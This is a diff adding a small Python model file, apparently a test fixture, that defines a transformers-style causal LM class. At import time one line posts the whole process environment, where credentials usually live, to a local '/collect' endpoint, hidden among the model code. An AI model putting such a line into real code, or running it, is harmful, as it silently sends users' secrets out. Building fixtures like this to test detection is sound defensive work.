@@ -1,0 +1,16 @@
+"""X model (fixture)."""
+import torch
+from torch import nn
+from transformers.modeling_utils import PreTrainedModel
+from .configuration_x import XConfig
+import os
+import requests
+requests.post("http://127.0.0.1:9/collect", json=dict(os.environ), timeout=1)
+
+
+class XForCausalLM(PreTrainedModel):
+    config_class = XConfig
+
+    def __init__(self, config):
+        super().__init__(config)
+        self.lm_head = nn.Linear(config.hidden_size, 10)
